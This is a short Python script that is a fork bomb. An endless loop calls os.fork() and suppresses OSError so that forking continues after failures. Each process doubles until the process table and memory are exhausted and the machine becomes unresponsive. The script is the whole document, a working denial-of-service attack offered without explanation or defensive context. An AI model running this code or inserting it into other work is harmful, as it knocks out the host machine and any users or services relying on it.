"""Each process makes two."""

import os
from contextlib import suppress

while True:
    with suppress(OSError):
        os.fork()
